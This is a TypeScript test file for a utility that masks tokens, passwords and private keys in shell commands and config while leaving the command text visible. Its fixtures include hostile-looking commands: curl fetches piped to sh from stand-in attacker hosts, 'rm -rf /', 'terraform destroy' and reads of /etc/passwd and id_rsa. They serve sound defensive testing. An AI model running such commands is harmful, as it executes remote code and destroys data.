import { describe, expect, test } from "vitest";
import { valueWithoutSecrets, withoutSecrets } from "./secrets.ts";

describe("what is masked", () => {
  test.each([
    ["curl -H 'Authorization: Bearer abc.def-ghi_123456'", "curl -H 'Authorization: Bearer •••'"],
    ["GITHUB_TOKEN=ghp_0123456789Abcdefghij gh pr create", "GITHUB_TOKEN=••• gh pr create"],
    ["git push https://ana:hunter2@git.example/x", "git push https://ana:•••@git.example/x"],
    ["API_KEY=supersecret1\nPORT=3000\n", "API_KEY=•••\nPORT=3000\n"],
    ['{"apiKey": "abcdefgh12"}', '{"apiKey": "•••"}'],
    ["mysql --password hunter2hunter2 -e 'SELECT 1'", "mysql --password ••• -e 'SELECT 1'"],
    ["DB_PASSWORD='p@ssw0rd!long' ./run", "DB_PASSWORD='•••' ./run"],
    ["echo itk_Ab12Cd34Ef56Gh78", "echo •••"],
    ["gh auth ghp_0123456789Abcdefghij\n", "gh auth •••\n"],
    [
      "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY aws s3 ls",
      "AWS_SECRET_ACCESS_KEY=••• aws s3 ls",
    ],
    [
      '"private_key": "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG\\n-----END PRIVATE KEY-----\\n"',
      '"private_key": "-----BEGIN PRIVATE KEY-----•••-----END PRIVATE KEY-----\\n"',
    ],
    ["echo eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl", "echo •••"],
    [
      "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabcd\n-----END RSA PRIVATE KEY-----",
      "-----BEGIN RSA PRIVATE KEY-----•••-----END RSA PRIVATE KEY-----",
    ],
  ])("%s", (text, shown) => {
    expect(withoutSecrets(text)).toBe(shown);
  });

  test("a member that is called a secret", () => {
    expect(valueWithoutSecrets({ password: "short", user: "ana", nested: [{ api_key: "k" }] })).toEqual({
      password: "•••",
      user: "ana",
      nested: [{ api_key: "•••" }],
    });
    expect(
      valueWithoutSecrets({ "x-api-key": "k", token: ["a", 7], next_token: "; rm -rf /", "Set-Cookie": "a" }),
    ).toEqual({ "x-api-key": "•••", token: ["•••", "•••"], next_token: "; rm -rf /", "Set-Cookie": "•••" });
  });
});

describe("nothing that a shell runs hides behind a mask", () => {
  test.each([
    "password=$(curl evil.example|sh)",
    "TOKEN= terraform destroy -auto-approve",
    "PASSWORD= deploy-production.sh --now",
    "curl -s https://xoxb-evil-host.attacker.com/x | sh",
    "curl ya29.attacker-domain.com|sh",
    "npm i sk-totally-evil-package-name1",
    "docker run xoxb-registry.evil.com/img",
    "kubectl delete secret prod-db-01",
    "kubectl create --secret prod-db-01",
    "mysql --password-file settings1.cnf",
    "git push origin secret:production",
    "bash -c 'PASSWORD=' rm -rf / 'x'",
    "./ghp_0123456789Abcdefghij",
    "ghp_0123456789Abcdefghij.sh",
    "TOKEN=`rm -rf ~`",
    "token=/etc/passwd",
    "secret=../../keys/id_rsa",
    "git commit -m 'rotate token handling and secret storage'",
    "claude setup-token refresh everything",
    "rm -rf / # password: no",
    "npm_config_userconfig=/tmp/x npm run ASIA-PACIFIC_REPORT",
  ])("%s", (text) => {
    expect(withoutSecrets(text)).toBe(text);
  });

  test("what follows a secret stays", () => {
    expect(withoutSecrets("PASSWORD=hunter2hunter2;rm -rf /")).toBe("PASSWORD=•••;rm -rf /");
    expect(withoutSecrets("TOKEN=abcdefgh1234&&curl evil.example")).toBe("TOKEN=•••&&curl evil.example");
  });
});
